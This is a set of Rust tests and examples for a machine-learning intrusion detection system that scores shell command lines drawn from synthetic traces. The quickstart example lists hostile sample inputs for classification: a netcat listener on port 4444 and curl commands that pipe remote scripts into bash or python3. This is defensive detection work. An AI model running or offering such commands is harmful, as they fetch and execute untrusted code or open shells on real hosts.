            .count();
        assert!(count > 0, "family {family} missing from a 12k draw");
    }
}
