//! End-to-end integration test spanning every crate: synthesize a trace
//! (`corpus`), preprocess (`shell-parser` via `cmdline-ids`), tokenize
//! (`bpe`), pre-train (`nn`/`linalg`), label with the rule IDS
//! (`ids-rules`), tune, score, and evaluate (`anomaly`, metrics).

use cmdline_ids::eval::evaluate_scores;
use cmdline_ids::metrics::ScoredSample;
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use cmdline_ids::retrieval::Retrieval;
use cmdline_ids::tuning::{ClassificationTuner, TuneConfig};
use corpus::dedup_records;
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn scaled_config() -> PipelineConfig {
    let mut config = PipelineConfig::fast();
    config.train_size = 2_500;
    config.test_size = 1_000;
    config.attack_prob = 0.25;
    config
}

#[test]
fn classification_pipeline_beats_chance_and_recalls_in_box() {
    // Seed picked for a representative (not cherry-picked-weak) draw
    // under the vendored RNG: PO@10 lands at 0.8 with ample margin
    // over the 0.5 bar, and the in-box recall property is exercised.
    let mut rng = StdRng::seed_from_u64(7);
    let config = scaled_config();
    let dataset = config.generate_dataset(&mut rng);
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);

    let ids = RuleIds::with_default_rules();
    let train_lines: Vec<&str> = dataset.train.iter().map(|r| r.line.as_str()).collect();
    let labels: Vec<bool> = train_lines.iter().map(|l| ids.is_alert(l)).collect();
    let positives = labels.iter().filter(|&&y| y).count();
    assert!(
        positives >= 10,
        "supervision produced only {positives} alerts"
    );

    let tuner = ClassificationTuner::fit(
        &pipeline,
        &train_lines,
        &labels,
        &TuneConfig::scaled(),
        &mut rng,
    );

    let test = dedup_records(&dataset.test);
    let refs: Vec<&str> = test.iter().map(|r| r.line.as_str()).collect();
    let scores = tuner.score_lines(&pipeline, &refs);
    let samples: Vec<ScoredSample> = test
        .iter()
        .zip(&scores)
        .map(|(r, &score)| ScoredSample {
            score,
            malicious: r.truth.is_malicious(),
            in_box: ids.is_alert(&r.line),
        })
        .collect();

    let eval = evaluate_scores(&samples, 1.0, &[10]);
    // Threshold exists (test window has in-box intrusions)…
    let threshold = eval.threshold.expect("in-box samples present");
    // …every in-box sample is recalled at it…
    for s in samples.iter().filter(|s| s.in_box) {
        assert!(s.score >= threshold);
    }
    // …and the top-10 out-of-box predictions are far better than chance.
    let (_, p10) = eval.po_at[0];
    assert!(p10 >= 0.5, "PO@10 {p10} not better than chance");
    // Overall precision at the calibrated threshold clearly lifts above
    // the malicious base rate. (Paper-grade precision needs the larger
    // experiment scale; this test uses the seconds-fast configuration.)
    let base_rate = samples.iter().filter(|s| s.malicious).count() as f64 / samples.len() as f64;
    let po_i = eval.po_i.expect("positives predicted");
    assert!(
        po_i > 2.0 * base_rate,
        "PO&I {po_i:.3} vs base rate {base_rate:.3}"
    );
}

#[test]
fn retrieval_pipeline_ranks_attacks_highly() {
    let mut rng = StdRng::seed_from_u64(4321);
    let config = scaled_config();
    let dataset = config.generate_dataset(&mut rng);
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);

    let ids = RuleIds::with_default_rules();
    let train_lines: Vec<&str> = dataset.train.iter().map(|r| r.line.as_str()).collect();
    let labels: Vec<bool> = train_lines.iter().map(|l| ids.is_alert(l)).collect();

    let retrieval = Retrieval::fit(&pipeline, &train_lines, &labels, 1);
    let test = dedup_records(&dataset.test);
    let refs: Vec<&str> = test.iter().map(|r| r.line.as_str()).collect();
    let scores = retrieval.score_lines(&pipeline, &refs);

    // Mean score of malicious test lines must exceed benign mean.
    let (mut ms, mut mc, mut bs, mut bc) = (0.0f64, 0usize, 0.0f64, 0usize);
    for (r, &s) in test.iter().zip(&scores) {
        if r.truth.is_malicious() {
            ms += s as f64;
            mc += 1;
        } else {
            bs += s as f64;
            bc += 1;
        }
    }
    assert!(mc > 0 && bc > 0);
    let (ms, bs) = (ms / mc as f64, bs / bc as f64);
    assert!(ms > bs, "malicious mean {ms} vs benign mean {bs}");
}

#[test]
fn pretraining_reduces_mlm_loss_on_real_pipeline_data() {
    // The pipeline's internal MLM training must actually learn; verify
    // via a fresh trainer on the pipeline's tokenized corpus.
    let mut rng = StdRng::seed_from_u64(77);
    let mut config = PipelineConfig::fast();
    config.train_size = 600;
    config.test_size = 100;
    let dataset = config.generate_dataset(&mut rng);
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);

    let sequences: Vec<Vec<u32>> = dataset
        .train
        .iter()
        .take(200)
        .map(|r| pipeline.encode(&r.line))
        .collect();
    let encoder = nn::Encoder::new(*pipeline.encoder().config(), &mut rng);
    let mut trainer = nn::MlmTrainer::new(encoder, nn::AdamW::new(3e-3, 0.01), 0.15, &mut rng);
    let losses = trainer.train(&sequences, 4, 16, &mut rng);
    assert!(
        losses.last().unwrap() < losses.first().unwrap(),
        "losses: {losses:?}"
    );
}
