//! Workspace umbrella crate.
//!
//! Exists so the repository-level `tests/` and `examples/` directories
//! have a package to belong to; re-exports the member crates for
//! convenience.

pub use anomaly;
pub use cmdline_ids;
pub use corpus;
pub use ids_rules;

pub extern crate bench;
