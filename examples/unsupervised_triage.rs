//! Unsupervised anomaly triage (paper Section III): no labels at all.
//!
//! Fits PCA on the embeddings of the training window and ranks the test
//! window by reconstruction error — the paper's Eq. 1 — showing both the
//! genuine detections (a full port scan) and the "abnormal yet benign"
//! false alarms (long gibberish echo) that motivate adding supervision.
//!
//! Run with: `cargo run --release --example unsupervised_triage`

use anomaly::PcaDetector;
use cmdline_ids::embed::{embed_lines, Pooling};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use corpus::dedup_records;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn main() {
    let mut rng = StdRng::seed_from_u64(11);
    let config = PipelineConfig::experiment();
    let dataset = config.generate_dataset(&mut rng);
    println!("pre-training on {} lines…", dataset.train.len());
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);

    // Fit PCA on (a subsample of) training embeddings — unsupervised.
    let train_lines: Vec<&str> = dataset
        .train
        .iter()
        .step_by(3)
        .map(|r| r.line.as_str())
        .collect();
    let train_emb = embed_lines(
        pipeline.encoder(),
        pipeline.tokenizer(),
        &train_lines,
        pipeline.max_len(),
        Pooling::Mean,
    );
    let detector = PcaDetector::fit(&train_emb, 0.95);
    println!(
        "PCA keeps {} of {} embedding dimensions",
        detector.n_components(),
        train_emb.cols()
    );

    // Rank the de-duplicated test window by reconstruction error.
    let test = dedup_records(&dataset.test);
    let refs: Vec<&str> = test.iter().map(|r| r.line.as_str()).collect();
    let test_emb = embed_lines(
        pipeline.encoder(),
        pipeline.tokenizer(),
        &refs,
        pipeline.max_len(),
        Pooling::Mean,
    );
    let scores = detector.score_all(&test_emb);

    let mut order: Vec<usize> = (0..test.len()).collect();
    order.sort_by(|&a, &b| scores[b].partial_cmp(&scores[a]).unwrap());

    println!();
    println!("top 15 anomalies by PCA reconstruction error (Eq. 1):");
    for &i in order.iter().take(15) {
        let tag = if test[i].truth.is_malicious() {
            "[intrusion]      "
        } else {
            "[abnormal-benign]"
        };
        println!("  {:>9.3}  {tag}  {}", scores[i], test[i].line);
    }

    let top20_hits = order
        .iter()
        .take(20)
        .filter(|&&i| test[i].truth.is_malicious())
        .count();
    println!();
    println!("intrusions in the top 20: {top20_hits} — the rest are the");
    println!("\"abnormal yet benign\" false alarms that motivate Section IV.");
}
