//! End-to-end tour of the streaming scoring service: pre-train a
//! pipeline, fit the resident detector set, then
//!
//! 1. replay the test split line-by-line from concurrent producers
//!    (micro-batching keeps the encoder's batched forward hot),
//! 2. absorb a burst of fresh supervision through the incremental
//!    HNSW insert path,
//! 3. snapshot the fitted neighbour detectors to disk and cold-start
//!    a second service from the file — no graph construction pass.
//!
//! Run: `cargo run --release --example streaming_score
//! [--shards N] [--quant f32|f16|i8]`
//!
//! With `--shards N` (N > 1) the exemplar indexes are partitioned N
//! ways and served through the `ShardRouter`: micro-batches scatter to
//! per-shard worker pools, per-shard top-k candidates merge back into
//! one verdict, appends route to the owning shard, and the snapshot
//! carries one frame per shard. With `--quant f16|i8` every shard
//! stores its candidates quantized — appends quantize on insert, and
//! the snapshot frames the format + scales so the cold start serves
//! the same compressed store. (CI smoke-runs the single service, the
//! 4-way router, and the 4-way router over i8 candidates so none of
//! the paths can rot.)

use anomaly::{RetrievalMethod, VanillaKnnMethod};
use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, FittedEngine, IndexConfig, Quantization, ScoringEngine};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use corpus::dedup_records;
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;
use serve::{Frontend, ServeConfig, ServiceSnapshot};
use std::time::{Duration, Instant};

const PRODUCERS: usize = 4;

/// One [`Frontend`] serves the whole tour: it wraps either a single
/// micro-batching service or the shard router behind one API, so the
/// replay/append/snapshot steps are identical across `--shards`.
fn spawn_front(pipeline: IdsPipeline, fitted: FittedEngine, shards: usize) -> Frontend {
    Frontend::spawn(
        pipeline,
        fitted,
        shards,
        ServeConfig {
            queue_capacity: 128,
            max_batch: 32,
            batch_window: Duration::from_millis(1),
            workers: 2,
        },
    )
    .expect("front spawns")
}

fn parse_args() -> (usize, Quantization) {
    let mut shards = 1usize;
    let mut quant = Quantization::F32;
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let mut i = 0;
    while i + 1 < argv.len() {
        match argv[i].as_str() {
            "--shards" => {
                shards = argv[i + 1]
                    .parse()
                    .expect("--shards takes a positive integer");
            }
            "--quant" => {
                quant = argv[i + 1].parse().expect("--quant takes f32|f16|i8");
            }
            _ => break,
        }
        i += 2;
    }
    if i != argv.len() {
        eprintln!("usage: streaming_score [--shards N] [--quant f32|f16|i8]");
        std::process::exit(2);
    }
    (shards, quant)
}

fn main() {
    let (shards, quant) = parse_args();
    // 1. Offline prologue: data, pre-training, supervision, fit.
    let mut config = PipelineConfig::fast();
    config.train_size = 900;
    config.test_size = 400;
    config.attack_prob = 0.2;
    let mut rng = StdRng::seed_from_u64(7);
    println!(
        "pre-training on {} synthetic lines… (shards: {shards}, quant: {quant})",
        config.train_size
    );
    let dataset = config.generate_dataset(&mut rng);
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
    let ids = RuleIds::with_default_rules();
    let labels: Vec<bool> = dataset
        .train
        .iter()
        .map(|r| ids.is_alert(&r.line))
        .collect();
    let train_lines: Vec<String> = dataset.train.iter().map(|r| r.line.clone()).collect();
    let test_lines: Vec<String> = dedup_records(&dataset.test)
        .iter()
        .map(|r| r.line.clone())
        .collect();

    let store = EmbeddingStore::new(&pipeline);
    let train = store.view_of(&train_lines, Pooling::Mean);
    let fitted = ScoringEngine::new()
        .with_index_config(IndexConfig::hnsw().with_quant(quant).with_shards(shards))
        .register(Box::new(RetrievalMethod::new(1)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .fit(&train, &labels)
        .expect("detector set fits");

    // 2. Serve: concurrent producers replay the test split line by
    //    line; workers coalesce arrivals into encoder-sized batches
    //    (and, sharded, scatter each batch across the shard pools).
    let front = spawn_front(pipeline.clone(), fitted, shards);
    println!(
        "serving methods {:?} over {} streamed lines from {PRODUCERS} producers…",
        front.method_names(),
        test_lines.len()
    );
    let t0 = Instant::now();
    let mut alerts = 0usize;
    std::thread::scope(|scope| {
        let mut handles = Vec::new();
        for p in 0..PRODUCERS {
            let client = front.client();
            let lines = &test_lines;
            handles.push(scope.spawn(move || {
                let mut hot = 0usize;
                for line in lines.iter().skip(p).step_by(PRODUCERS) {
                    let scores = client.score_line(line).expect("service alive");
                    // Retrieval ≥ 0.9 ⇒ essentially a known exemplar.
                    if scores[0] >= 0.9 {
                        hot += 1;
                    }
                }
                hot
            }));
        }
        for handle in handles {
            alerts += handle.join().expect("producer finished");
        }
    });
    let elapsed = t0.elapsed();
    let stats = front.stats();
    println!(
        "  {} lines in {elapsed:.2?} ({:.0} lines/s), {} micro-batches \
         (avg {:.1} lines/batch), {alerts} retrieval-hot lines",
        stats.lines,
        stats.lines as f64 / elapsed.as_secs_f64(),
        stats.batches,
        stats.lines as f64 / stats.batches.max(1) as f64
    );

    // 3. Live supervision: absorb fresh exemplars without a refit
    //    (sharded: each routed to its owning shard's index).
    let burst: Vec<String> = test_lines.iter().take(8).cloned().collect();
    let burst_labels: Vec<bool> = burst.iter().map(|l| ids.is_alert(l)).collect();
    let absorbed = front.append(&burst, &burst_labels).expect("append works");
    println!(
        "absorbed a supervision burst of {} lines into {absorbed} neighbour indexes",
        burst.len()
    );

    // 4. Persistence: snapshot, cold-start, verify verdict parity.
    let (snapshot, skipped) = front.snapshot().expect("no appends in flight");
    assert!(skipped.is_empty());
    let path = std::env::temp_dir().join(format!("streaming-score-{}.bin", std::process::id()));
    snapshot.save(&path).expect("snapshot saves");
    let bytes = std::fs::metadata(&path).map(|m| m.len()).unwrap_or(0);
    let warm_client = front.client();
    let want: Vec<Vec<f32>> = test_lines
        .iter()
        .take(16)
        .map(|l| warm_client.score_line(l).expect("warm service scores"))
        .collect();
    drop(warm_client);
    front.shutdown();

    let passes = index::construction_passes();
    let restored = ServiceSnapshot::load(&path)
        .expect("snapshot loads")
        .restore();
    let cold = spawn_front(pipeline, restored, shards);
    assert_eq!(
        index::construction_passes(),
        passes,
        "cold start must adopt the saved graphs (all shards), not rebuild them"
    );
    std::fs::remove_file(&path).ok();
    let cold_client = cold.client();
    for (line, want_scores) in test_lines.iter().take(16).zip(&want) {
        let got = cold_client.score_line(line).expect("cold service scores");
        assert_eq!(&got, want_scores, "cold-start verdict drifted for {line:?}");
    }
    drop(cold_client);
    cold.shutdown();
    println!(
        "cold-started from a {bytes}-byte snapshot ({shards} shard(s), {quant} candidates) \
         with zero graph construction passes; verdicts bit-identical"
    );
}
