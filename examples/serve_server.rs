//! The scoring stack as a network daemon: pre-train a pipeline, fit
//! the neighbour detector set, and serve it over length-prefixed TCP
//! frames until a client asks for shutdown.
//!
//! Run: `cargo run --release --example serve_server
//! [--shards N] [--quant f32|f16|i8] [--port P] [--cache N]`
//!
//! Pair it with `serve_client`, which connects over loopback, replays
//! a Zipf-heavy stream, absorbs a supervision burst, re-scores, and
//! requests the clean shutdown this process waits for. (CI smoke-runs
//! exactly that pair with `--shards 4 --quant i8`, so the wire path
//! over the sharded quantized stack cannot rot.)

use anomaly::{RetrievalMethod, VanillaKnnMethod};
use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, IndexConfig, Quantization, ScoringEngine};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;
use serve::{Frontend, NetConfig, NetServer, ServeConfig};
use std::time::Duration;

struct Args {
    shards: usize,
    quant: Quantization,
    port: u16,
    cache: usize,
}

fn parse_args() -> Args {
    let mut args = Args {
        shards: 1,
        quant: Quantization::F32,
        port: 7177,
        cache: 4096,
    };
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let mut i = 0;
    while i + 1 < argv.len() {
        match argv[i].as_str() {
            "--shards" => args.shards = argv[i + 1].parse().expect("--shards takes an integer"),
            "--quant" => args.quant = argv[i + 1].parse().expect("--quant takes f32|f16|i8"),
            "--port" => args.port = argv[i + 1].parse().expect("--port takes a port number"),
            "--cache" => args.cache = argv[i + 1].parse().expect("--cache takes an integer"),
            _ => break,
        }
        i += 2;
    }
    if i != argv.len() {
        eprintln!("usage: serve_server [--shards N] [--quant f32|f16|i8] [--port P] [--cache N]");
        std::process::exit(2);
    }
    args
}

fn main() {
    let args = parse_args();

    // Offline prologue, identical to the streaming_score tour: the
    // client regenerates the same seed-7 corpus to pick its replay
    // lines, so verdicts are about exemplars both sides know.
    let mut config = PipelineConfig::fast();
    config.train_size = 900;
    config.test_size = 400;
    config.attack_prob = 0.2;
    let mut rng = StdRng::seed_from_u64(7);
    println!(
        "pre-training on {} synthetic lines… (shards: {}, quant: {})",
        config.train_size, args.shards, args.quant
    );
    let dataset = config.generate_dataset(&mut rng);
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
    let ids = RuleIds::with_default_rules();
    let labels: Vec<bool> = dataset
        .train
        .iter()
        .map(|r| ids.is_alert(&r.line))
        .collect();
    let train_lines: Vec<String> = dataset.train.iter().map(|r| r.line.clone()).collect();

    let store = EmbeddingStore::new(&pipeline);
    let train = store.view_of(&train_lines, Pooling::Mean);
    let fitted = ScoringEngine::new()
        .with_index_config(
            IndexConfig::hnsw()
                .with_quant(args.quant)
                .with_shards(args.shards),
        )
        .register(Box::new(RetrievalMethod::new(1)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .fit(&train, &labels)
        .expect("detector set fits");

    let front = Frontend::spawn(
        pipeline,
        fitted,
        args.shards,
        ServeConfig {
            queue_capacity: 128,
            max_batch: 32,
            batch_window: Duration::from_millis(1),
            workers: 2,
        },
    )
    .expect("front spawns");

    let server = NetServer::spawn(
        front,
        NetConfig {
            port: args.port,
            cache: Some(args.cache),
            ..NetConfig::default()
        },
    )
    .expect("server binds");
    println!(
        "serving {:?} on {} (verdict cache: {} entries); waiting for a shutdown request…",
        server.front().method_names(),
        server.local_addr(),
        args.cache
    );

    server.wait_for_shutdown_request();
    let stats = server.front().stats();
    server.shutdown().shutdown();
    println!(
        "clean shutdown after {} lines in {} micro-batches \
         ({} cache hits / {} misses, epoch {})",
        stats.lines, stats.batches, stats.cache_hits, stats.cache_misses, stats.epoch
    );
}
