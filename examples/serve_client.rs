//! Loopback client for `serve_server`: connect (retrying while the
//! server pre-trains), replay a Zipf-heavy stream of command lines,
//! absorb a supervision burst through the wire `append`, verify the
//! re-scored verdicts reflect it, and request a clean shutdown.
//!
//! Run: `cargo run --release --example serve_client [--port P]`
//!
//! The replay pool regenerates the server's seed-7 corpus, so both
//! sides agree on the exemplar lines without any file exchange.

use cmdline_ids::pipeline::PipelineConfig;
use corpus::{dedup_records, ZipfSampler};
use rand::rngs::StdRng;
use rand::SeedableRng;
use serve::NetClient;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

const DRAWS: usize = 512;
const CONNECT_TIMEOUT: Duration = Duration::from_secs(120);

fn parse_args() -> u16 {
    let mut port = 7177u16;
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let mut i = 0;
    while i + 1 < argv.len() {
        match argv[i].as_str() {
            "--port" => port = argv[i + 1].parse().expect("--port takes a port number"),
            _ => break,
        }
        i += 2;
    }
    if i != argv.len() {
        eprintln!("usage: serve_client [--port P]");
        std::process::exit(2);
    }
    port
}

/// The server pre-trains before it binds, so the first connects are
/// refused — retry until the listener is up.
fn connect_with_retry(addr: SocketAddr) -> NetClient {
    let deadline = Instant::now() + CONNECT_TIMEOUT;
    loop {
        match NetClient::connect(addr) {
            Ok(client) => return client,
            Err(err) => {
                if Instant::now() >= deadline {
                    panic!("server at {addr} never came up: {err}");
                }
                std::thread::sleep(Duration::from_millis(250));
            }
        }
    }
}

fn main() {
    let port = parse_args();

    // The same seed-7 corpus the server fit on: its deduplicated test
    // split is the replay pool.
    let mut config = PipelineConfig::fast();
    config.train_size = 900;
    config.test_size = 400;
    config.attack_prob = 0.2;
    let mut rng = StdRng::seed_from_u64(7);
    let dataset = config.generate_dataset(&mut rng);
    let pool: Vec<String> = dedup_records(&dataset.test)
        .iter()
        .map(|r| r.line.clone())
        .collect();

    let addr = SocketAddr::from(([127, 0, 0, 1], port));
    println!("connecting to {addr}…");
    let client = connect_with_retry(addr);
    println!("connected; serving methods {:?}", client.method_names());

    // 1. Zipf replay: the hot head repeats, so the server's verdict
    //    cache absorbs most of the stream after the first pass.
    let sampler = ZipfSampler::new(pool.len(), 1.05);
    let mut zipf_rng = StdRng::seed_from_u64(42);
    let draws: Vec<String> = (0..DRAWS)
        .map(|_| pool[sampler.sample(&mut zipf_rng)].clone())
        .collect();
    let t0 = Instant::now();
    for chunk in draws.chunks(16) {
        let verdicts = client.score_batch(chunk).expect("server alive");
        assert_eq!(verdicts.len(), chunk.len());
    }
    let elapsed = t0.elapsed();
    let stats = client.stats().expect("stats over wire");
    println!(
        "replayed {DRAWS} Zipf draws over {} unique lines in {elapsed:.2?} \
         ({:.0} q/s); server cache: {} hits / {} misses",
        pool.len(),
        DRAWS as f64 / elapsed.as_secs_f64(),
        stats.cache_hits,
        stats.cache_misses,
    );

    // 2. Supervision burst: append the replay head as *confirmed
    //    alerts* and verify the re-scored verdicts actually move — the
    //    epoch bump must drop every cached pre-append verdict. The
    //    label matters: retrieval indexes malicious exemplars only, so
    //    an attack label guarantees each burst line's own nearest-
    //    exemplar similarity jumps on the re-score.
    let burst: Vec<String> = pool.iter().take(4).cloned().collect();
    let burst_labels = vec![true; burst.len()];
    let before = client.score_batch(&burst).expect("server alive");
    let absorbed = client
        .append(&burst, &burst_labels)
        .expect("append over wire");
    let epoch = client.stats().expect("stats").epoch;
    assert!(epoch >= 1, "append must bump the invalidation epoch");
    let after = client.score_batch(&burst).expect("server alive");
    assert_ne!(
        before, after,
        "appending the scored lines as exemplars must change their verdicts \
         (a stale match means the cache survived the epoch bump)"
    );
    println!(
        "absorbed a {}-line burst into {absorbed} neighbour indexes \
         (epoch {epoch}); re-scored verdicts reflect it",
        burst.len()
    );

    // 3. Clean shutdown: the server joins its workers and exits.
    client.shutdown_server().expect("shutdown request lands");
    println!("requested server shutdown; done");
}
