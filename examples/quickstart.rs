//! Quickstart: train the command-line language model IDS end-to-end on a
//! synthetic trace and classify a few command lines.
//!
//! This walks the paper's Figure 1 pipeline: logging → preprocessing →
//! tokenization → MLM pre-training → classification-based tuning →
//! inference.
//!
//! Run with: `cargo run --release --example quickstart`

use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use cmdline_ids::tuning::{ClassificationTuner, TuneConfig};
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::SeedableRng;

fn main() {
    let mut rng = StdRng::seed_from_u64(7);

    // 1. "Logging": synthesize a production-like trace (the substitution
    //    for the paper's proprietary 30M-line week; see DESIGN.md).
    let config = PipelineConfig::experiment();
    println!(
        "synthesizing {} training / {} test command lines…",
        config.train_size, config.test_size
    );
    let dataset = config.generate_dataset(&mut rng);

    // 2-4. Preprocess (Bash parse + command filter), train BPE, pre-train
    //      the masked language model.
    println!("pre-training the command-line language model…");
    let pipeline = IdsPipeline::pretrain(&config, &dataset, &mut rng);
    let stats = pipeline.train_stats();
    println!(
        "preprocessing kept {} lines (dropped: {} invalid, {} empty, {} typo-filtered)",
        stats.kept, stats.invalid, stats.empty, stats.filtered
    );

    // 5. Supervision: query the (simulated) commercial IDS in a black-box
    //    manner to label the training lines.
    let ids = RuleIds::with_default_rules();
    let lines: Vec<&str> = dataset.train.iter().map(|r| r.line.as_str()).collect();
    let labels: Vec<bool> = lines.iter().map(|l| ids.is_alert(l)).collect();
    println!(
        "commercial IDS labeled {} of {} training lines as intrusions",
        labels.iter().filter(|&&y| y).count(),
        labels.len()
    );

    // 6. Classification-based tuning (the paper's best method).
    println!("tuning the classification head ([CLS] probing)…");
    let tuner =
        ClassificationTuner::fit(&pipeline, &lines, &labels, &TuneConfig::scaled(), &mut rng);

    // 7. Inference.
    println!();
    println!("{:<62} {:>9} {:>7}", "command line", "IDS", "model");
    for line in [
        "ls -la /var/log",
        "docker ps -a",
        "nc -lvnp 4444",
        "nc -ulp 4444",
        "curl http://185.220.10.5/x.sh | bash",
        "curl -fsSL https://update-cdn.xyz/loader | python3 -",
        "export https_proxy=\"socks5://10.9.8.7:1080\"",
        "grep -rn error /var/log/syslog",
    ] {
        let score = tuner.score(&pipeline, line);
        println!(
            "{:<62} {:>9} {:>7.3}",
            line,
            if ids.is_alert(line) {
                "ALERT"
            } else {
                "silent"
            },
            score
        );
    }
    println!();
    println!("all three right-column variants are silent at the signature IDS;");
    println!("the model scores some of them high — which ones generalize depends");
    println!("on the training draw (see EXPERIMENTS.md, Table III). For the full");
    println!("hunt with threshold calibration, run the hunt_out_of_box example.");
}
