//! Exercises both vector-index backends at serving scale: builds an
//! exact and an HNSW index over the same synthetic embedding set,
//! compares batch-query latency and recall, then runs the paper's
//! retrieval detector over each backend.
//!
//! Run: `cargo run --release --example retrieval_at_scale [-- n]`
//! (default 10_000 indexed embeddings).

use anomaly::RetrievalDetector;
use index::{ExactIndex, HnswIndex, HnswParams, IndexConfig, VectorIndex};
use linalg::rng::{clustered_around, randn};
use rand::rngs::StdRng;
use rand::SeedableRng;
use std::time::Instant;

const DIM: usize = 64;
const CLUSTERS: usize = 250;
const QUERIES: usize = 256;
const NOISE: f32 = 0.25;

fn main() {
    let n: usize = std::env::args()
        .nth(1)
        .and_then(|v| v.parse().ok())
        .unwrap_or(10_000);
    let mut rng = StdRng::seed_from_u64(17);

    // Cluster-structured embeddings, like deduplicated production
    // command lines: many variants of comparatively few templates.
    let centers = randn(&mut rng, CLUSTERS, DIM, 1.0);
    let data = clustered_around(&mut rng, &centers, n, NOISE);
    let queries = clustered_around(&mut rng, &centers, QUERIES, NOISE);

    println!("indexing {n} embeddings (dim {DIM})…");
    let t0 = Instant::now();
    let exact = ExactIndex::build(data.clone());
    let exact_build = t0.elapsed();
    let t0 = Instant::now();
    let hnsw = HnswIndex::build(data.clone(), HnswParams::default());
    let hnsw_build = t0.elapsed();
    println!("  build: exact {exact_build:.2?}, hnsw {hnsw_build:.2?}");

    let truth = exact.query_batch(&queries, 1);
    let t0 = Instant::now();
    let exact_again = exact.query_batch(&queries, 1);
    let exact_query = t0.elapsed();
    let t0 = Instant::now();
    let approx = hnsw.query_batch(&queries, 1);
    let hnsw_query = t0.elapsed();
    assert_eq!(truth, exact_again, "exact queries are deterministic");

    let hits = truth
        .iter()
        .zip(&approx)
        .filter(|(t, a)| t[0].id == a[0].id)
        .count();
    println!(
        "  query ({QUERIES} queries, k=1): exact {exact_query:.2?}, hnsw {hnsw_query:.2?} \
         ({:.1}× speedup), recall@1 = {:.3}",
        exact_query.as_secs_f64() / hnsw_query.as_secs_f64(),
        hits as f64 / QUERIES as f64,
    );

    // The same comparison through the paper's retrieval detector:
    // every ~30th indexed line plays a malicious exemplar.
    let labels: Vec<bool> = (0..n).map(|i| i % 30 == 0).collect();
    let det_exact = RetrievalDetector::fit(&data, &labels, 1);
    let det_hnsw = RetrievalDetector::fit_with(&data, &labels, 1, IndexConfig::hnsw(), None);
    let t0 = Instant::now();
    let s_exact = det_exact.score_all(&queries);
    let t_exact = t0.elapsed();
    let t0 = Instant::now();
    let s_hnsw = det_hnsw.score_all(&queries);
    let t_hnsw = t0.elapsed();
    let agree = s_exact.iter().zip(&s_hnsw).filter(|(a, b)| a == b).count();
    println!(
        "  retrieval detector ({} exemplars): exact {t_exact:.2?}, hnsw {t_hnsw:.2?}, \
         identical scores on {agree}/{QUERIES} queries",
        det_exact.n_exemplars(),
    );
}
