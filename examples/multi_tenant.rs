//! Tour of the multi-tenant serving tier: one process serves many
//! per-tenant exemplar partitions under a fixed memory envelope.
//!
//! 1. pre-train one shared pipeline, then carve the training corpus
//!    into per-tenant baselines (each tenant fits its own private
//!    retrieval + kNN detector set),
//! 2. replay Zipf-skewed traffic across the tenant population through
//!    the cached front-end — hot tenants stay resident, cold tenants
//!    are demoted to compact graph-dropped frames and lazily rebuilt
//!    on their next touch, and the configured budget forces real
//!    evictions,
//! 3. spot-check the tiering contract: a tenant that has been
//!    demoted and rebuilt answers bit-for-bit like a dedicated
//!    single-tenant service that was never demoted, and the whole
//!    map snapshot/restores with every tenant cold.
//!
//! Run: `cargo run --release --example multi_tenant
//! [--shards N] [--quant f32|f16|i8] [--mem-budget BYTES]`
//!
//! (CI smoke-runs `--shards 4 --quant i8` with a budget small enough
//! that evictions must happen, so the eviction path cannot rot.)

use anomaly::{RetrievalMethod, VanillaKnnMethod};
use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, IndexConfig, Quantization, ScoringEngine};
use cmdline_ids::pipeline::{IdsPipeline, PipelineConfig};
use corpus::{dedup_records, ZipfSampler};
use ids_rules::RuleIds;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serve::{Frontend, ServeConfig, TenantConfig, TenantId, TenantMapSnapshot, TenantService};
use std::sync::Arc;
use std::time::{Duration, Instant};

const TENANTS: u64 = 48;
const LINES_PER_TENANT: usize = 16;
const DRAWS: usize = 400;
const BATCH: usize = 4;

fn parse_args() -> (usize, Quantization, usize) {
    let mut shards = 4usize;
    let mut quant = Quantization::I8;
    let mut mem_budget = 96 << 10;
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let mut i = 0;
    while i + 1 < argv.len() {
        match argv[i].as_str() {
            "--shards" => {
                shards = argv[i + 1]
                    .parse()
                    .expect("--shards takes a positive integer");
            }
            "--quant" => {
                quant = argv[i + 1].parse().expect("--quant takes f32|f16|i8");
            }
            "--mem-budget" => {
                mem_budget = argv[i + 1]
                    .parse()
                    .expect("--mem-budget takes a byte count");
            }
            _ => break,
        }
        i += 2;
    }
    if i != argv.len() {
        eprintln!("usage: multi_tenant [--shards N] [--quant f32|f16|i8] [--mem-budget BYTES]");
        std::process::exit(2);
    }
    (shards, quant, mem_budget)
}

fn main() {
    let (shards, quant, mem_budget) = parse_args();

    // 1. One shared pipeline; per-tenant baselines carved from the
    //    training corpus.
    let mut config = PipelineConfig::fast();
    config.train_size = 900;
    config.test_size = 300;
    config.attack_prob = 0.2;
    let mut rng = StdRng::seed_from_u64(17);
    println!(
        "pre-training on {} synthetic lines… (groups: {shards}, quant: {quant}, \
         budget: {} KiB)",
        config.train_size,
        mem_budget >> 10,
    );
    let dataset = config.generate_dataset(&mut rng);
